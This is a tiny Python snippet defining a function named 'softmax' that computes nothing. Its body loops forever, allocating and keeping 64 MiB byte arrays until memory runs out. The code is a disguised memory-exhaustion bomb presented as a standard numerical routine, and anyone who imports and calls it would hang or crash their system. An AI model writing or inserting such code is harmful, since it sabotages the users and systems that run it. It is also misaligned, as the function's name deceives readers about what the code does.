def softmax(x, axis=-1):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 2**20))
